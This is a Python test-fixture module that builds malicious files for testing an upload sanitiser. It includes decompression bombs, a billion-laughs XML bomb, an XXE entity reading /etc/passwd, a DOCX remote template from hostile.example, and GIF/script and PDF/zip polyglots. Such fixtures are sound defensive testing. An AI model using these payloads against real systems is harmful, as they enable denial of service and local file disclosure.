"""How the hostile files of the table are made (`tests.hostile_files`): small functions, none of it kept in the repository."""

import random
import struct
import zipfile
import zlib
from collections.abc import Iterable
from io import BytesIO

from PIL import Image
from PIL.PngImagePlugin import PngInfo

SCRIPT = b"<script>alert('hostile')</script>"
WORD = "kanarcek"  # stands in what must not be kept
PNG = b"\x89PNG\r\n\x1a\n"
ODT = b"application/vnd.oasis.opendocument.text"


def drawn(size=(64, 48), form="JPEG", mode="RGB", color="seagreen", **options) -> bytes:
    written = BytesIO()
    Image.new(mode, size, color).save(written, form, **options)
    return written.getvalue()


def noise(size=(800, 600), form="JPEG", **options) -> bytes:
    written = BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(written, form, **options)
    return written.getvalue()


def seen_through(size=(800, 600), form="PNG", mode="RGBA", **options) -> bytes:
    """More and more from the top to the bottom, or where it has one of its colours."""
    written, picture = (
        BytesIO(),
        Image.effect_noise((500, 500), 60).resize(size, Image.Resampling.NEAREST).convert("RGB"),
    )
    if mode == "P":
        picture.convert("P").save(written, form, transparency=3, **options)
        return written.getvalue()
    picture = picture.convert(mode)
    picture.putalpha(Image.linear_gradient("L").resize(size))
    picture.save(written, form, **options)
    return written.getvalue()


def random_bytes(count: int) -> bytes:
    return random.Random(7).randbytes(count)


# Pictures


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png_header(width: int, height: int, *, depth: int = 8, colours: int = 2) -> bytes:
    return PNG + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colours, 0, 0, 0))


def png_claiming(width: int, height: int) -> bytes:
    return png_header(width, height) + drawn(form="PNG")[33:]


def png_unfolding(width: int, height: int) -> bytes:
    """A real one, of nothing but black: a few kilobytes that are hundreds of megabytes."""
    packing, rows = zlib.compressobj(9), b"\0" * (width * 3 + 1)
    content = b"".join(packing.compress(rows) for _row in range(height)) + packing.flush()
    return png_header(width, height) + chunk(b"IDAT", content) + chunk(b"IEND", b"")


def png_with(kind: bytes, content: bytes) -> bytes:
    plain = drawn(form="PNG")
    return plain[:33] + chunk(kind, content) + plain[33:]


def png_with_packed_text() -> bytes:
    return png_with(b"zTXt", b"Comment\0\0" + zlib.compress(b"\0" * 200_000_000, 9))


def png_with_packed_profile() -> bytes:
    return png_with(b"iCCP", b"profile\0\0" + zlib.compress(b"\0" * 200_000_000, 9))


def png_with_packed_texts() -> bytes:
    """Each just as long as one may be, and one letter makes each take four times as much."""
    text = zlib.compress("😀".encode() + b"a" * 1_000_000, 9)
    return png_with_all(chunk(b"iTXt", b"note%d\0\1\0\0\0" % number + text) for number in range(62))


def png_of_pieces(pieces: int = 100_000) -> bytes:
    return png_with_all([chunk(b"abCd", b"")] * pieces)


def png_with_all(chunks: Iterable[bytes]) -> bytes:
    plain = drawn(form="PNG")
    return plain[:33] + b"".join(chunks) + plain[33:]


def jpeg_with_notes(notes: int = 100_000, size: int = 4) -> bytes:
    """Each note of the camera is put behind all that were before."""
    plain = drawn()
    return plain[:2] + _segment(0xE1, b"Exif\0\0" + b"m" * size) * notes + plain[2:]


def jpeg_in_passes(passes: int = 10_000, size=(2000, 2000)) -> bytes:
    """Fourteen bytes for each, and each goes through the whole picture."""
    plain = drawn(size, mode="L", color=128, progressive=True)
    last = plain.rindex(b"\xff\xda")
    return plain[:last] + plain[last:-2] * passes + plain[-2:]


def jpeg_by_colours(size=(8000, 5000)) -> bytes:
    """Not progressive, yet its first pass has but one of the three colours."""
    plain = drawn(size)
    at = plain.index(b"\xff\xda")
    return plain[:at] + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + plain[at + 14 :]


def jpeg_claiming(width: int, height: int) -> bytes:
    content = drawn()
    at = content.index(b"\xff\xc0") + 5
    return content[:at] + struct.pack(">HH", height, width) + content[at + 4 :]


def webp_claiming(width: int, height: int) -> bytes:
    sides = struct.pack("<I", width - 1)[:3] + struct.pack("<I", height - 1)[:3]
    content = b"WEBP" + b"VP8X" + struct.pack("<I", 10) + b"\0\0\0\0" + sides + drawn(form="WEBP")[12:]
    return b"RIFF" + struct.pack("<I", len(content)) + content


def gif_claiming(width: int, height: int) -> bytes:
    plain = drawn(form="GIF", mode="P", color=None)
    return plain[:6] + struct.pack("<HH", width, height) + plain[10:]


def tiff_claiming(width: int, height: int) -> bytes:
    entries = [(256, width), (257, height), (258, 8), (259, 1), (262, 1), (273, 8), (277, 1), (278, height), (279, 1)]
    directory = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in entries)
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(entries)) + directory + b"\0\0\0\0"


def telling(form: str = "JPEG", size=(64, 48)) -> bytes:
    """Lying on its side; it says where, whose and with what in each way that the format has."""
    exif, notes = Image.Exif(), PngInfo()
    exif[0x0112], exif[0x013B], exif[0x010F] = 6, WORD, WORD
    exif.get_ifd(0x8825).update({1: "N", 2: (46.0, 25.0, 12.0), 3: "E", 4: (15.0, 52.0, 12.0), 29: WORD})
    notes.add_text("Author", WORD)
    notes.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{WORD}</x:xmpmeta>")
    more = {"JPEG": {"comment": WORD}, "PNG": {"pnginfo": notes}, "WEBP": {"xmp": WORD.encode()}}[form]
    content = drawn(size, form, exif=exif, **more)
    if form != "JPEG":
        return content
    iptc = (
        b"Photoshop 3.0\08BIM\x04\x04\0\0\0\0"
        + struct.pack(">I", len(WORD) + 5)
        + b"\x1c\x02\x50\0\x08"
        + WORD.encode()
    )
    xmp = b"http://ns.adobe.com/xap/1.0/\0" + WORD.encode()
    return content[:2] + _segment(0xE1, xmp) + _segment(0xED, iptc) + content[2:]


def _segment(kind: int, content: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, kind, len(content) + 2) + content


def broken_exif() -> bytes:
    content = drawn()
    return content[:2] + _segment(0xE1, b"Exif\0\0MM\0*\xff\xff\xff\xff" + b"\xff" * 40) + content[2:]


def animated(form: str, frames: int = 3, size=(20, 10)) -> bytes:
    written = BytesIO()
    first, *others = [Image.new("RGB", size, (number * 40 % 256, 90, 90)) for number in range(frames)]
    first.save(written, form, save_all=True, append_images=others, duration=100, loop=0)
    return written.getvalue()


def endless_animation(side: int = 1000, frames: int = 100) -> bytes:
    """Each picture is some hundred bytes, and four megabytes when it is shown."""
    one = drawn((side, side), "GIF", "P", None)
    at = one.index(b"\x2c" + struct.pack("<HHHH", 0, 0, side, side))
    return one[:at] + one[at:-1] * frames + b"\x3b"


def gif_of_specks(frames: int = 60_000) -> bytes:
    return endless_animation(1, frames)


def gif_with_a_note(pieces: int = 1_000_000) -> bytes:
    plain = drawn(form="GIF", mode="P", color=None)
    return plain[:-1] + b"!\xfe" + b"\1a" * pieces + b"\0;"


def gif_that_is_a_script() -> bytes:
    """GIF89a/* … */=1;alert(…): a picture to one program, a script to another."""
    plain = drawn(form="GIF", mode="P", color=None)
    return plain[:6] + b"/*" + plain[8:] + b"*/=1;alert('hostile');//"


# Archives and office documents


def packed(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    written = BytesIO()
    with zipfile.ZipFile(written, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return written.getvalue()


def docx(**more: bytes) -> bytes:
    """`word__x_xml` is word/x.xml."""
    named = {name.replace("__", "/").replace("_xml", ".xml"): content for name, content in more.items()}
    return packed({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>"} | named)


def docx_with(name: str, content: bytes = b"x") -> bytes:
    return packed({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<document/>", name: content})


def xlsx(strings: bytes = b"<sst/>", types: bytes = b"<Types/>") -> bytes:
    return packed({"[Content_Types].xml": types, "xl/workbook.xml": b"<workbook/>", "xl/sharedStrings.xml": strings})


def xlsx_with(name: str, content: bytes) -> bytes:
    return packed({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>", name: content})


def numbered(one: bytes, times: int) -> bytes:
    return b"".join(one % number for number in range(times))


def odt(**more: bytes) -> bytes:
    named = {name.replace("_xml", ".xml"): content for name, content in more.items()}
    return packed({"mimetype": ODT, "content.xml": b"<content/>"} | named)


def unfolding_xml() -> bytes:
    """A billion laughs."""
    steps = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    return b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "laugh">' + steps + b"]><a>&l9;</a>"


def fetching_xml() -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


def hidden_in_utf_16() -> bytes:
    return unfolding_xml().decode().replace("?>", ' encoding="UTF-16"?>', 1).encode("utf-16")


def template_from_elsewhere() -> bytes:
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    relation = (
        f'<Relationship Id="r1" Type="{kind}" Target="&#104;ttp://hostile.example/a.dotm" TargetMode="External"/>'
    )
    return docx_with("word/_rels/settings.xml.rels", f"<Relationships>{relation}</Relationships>".encode())


def bomb(megabytes: int = 300) -> bytes:
    """One part of noughts."""
    return docx_with("word/media/image1.bmp", b"\0" * megabytes * 1024 * 1024)


def nested_bomb() -> bytes:
    inner = packed({"noughts": b"\0" * 50 * 1024 * 1024})
    return packed({f"{number}.zip": inner for number in range(16)})


def overlapping_bomb(parts: int = 2000) -> bytes:
    """Each entry of the list names the same few bytes, as if they were many files of 40 kilobytes."""
    content = packed({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"\0" * 40_000})
    start, end = content.index(b"PK\x01\x02"), content.index(b"PK\x05\x06")
    second = content.index(b"PK\x01\x02", start + 4)
    listed = content[second:end]
    names = b"".join(listed[:46] + b"word/%08d.xml" % number + listed[63:] for number in range(parts))
    count = struct.pack("<HH", parts + 2, parts + 2)
    size = struct.pack("<II", end - start + len(names), start)
    return content[:end] + names + content[end : end + 8] + count + size + b"\0\0"


def lying_about_its_size() -> bytes:
    """It says ten bytes in the list, and unfolds to 200 megabytes."""
    content = bytearray(docx_with("word/zz.xml", b"\0" * 200 * 1024 * 1024))
    at = content.rindex(b"PK\x01\x02") + 24
    content[at : at + 4] = struct.pack("<I", 10)
    return bytes(content)


def list_of_many(parts: int = 60_000) -> bytes:
    one = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    listed = one * parts
    return b"PK\x03\x04" + listed + struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, parts, parts, len(listed), 4, 0)


def locked_zip() -> bytes:
    content = bytearray(docx())
    for opening, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = content.index(opening)
        content[place + at] |= 1
    return bytes(content)


def old_office() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "EncryptedPackage".encode("utf-16-le")


# PDFs


def pdf(*objects: bytes, before: bytes = b"", trailer: bytes = b"") -> bytes:
    """Of one empty page, which is the last but for its list; the objects are numbered from 2."""
    pages = len(objects) + 2
    catalogue = b"<</Type/Catalog/Pages %d 0 R>>" % pages
    listed = b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (pages + 1)
    page = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 99 99]>>" % pages
    told, places = in_order([catalogue, *objects, listed, page], b"%PDF-1.7\n" + before)
    size = len(places) + 1
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    told += b"xref\n0 %d\n0000000000 65535 f \n%strailer<</Root 1 0 R/Size %d%s>>\n" % (size, rows, size, trailer)
    return told + b"startxref\n%d\n%%%%EOF\n" % (told.rindex(b"xref\n0 "))


def in_order(objects: list[bytes], told: bytes) -> tuple[bytes, list[int]]:
    """One after the other, and where each begins."""
    pieces, places, at = [told], [], len(told)
    for number, each in enumerate(objects, 1):
        places.append(at)
        pieces.append(b"%d 0 obj\n%s\nendobj\n" % (number, each))
        at += len(pieces[-1])
    return b"".join(pieces), places


def stream(content: bytes, told: bytes = b"") -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (told, len(content), content)


def packed_objects(content: bytes) -> bytes:
    stream = zlib.compress(content, 9)
    return b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (len(stream), stream)


def pdf_and_zip() -> bytes:
    inner = packed({"page.html": SCRIPT})
    return pdf() + inner[:-2] + struct.pack("<H", 7) + b"\n%%EOF\n"
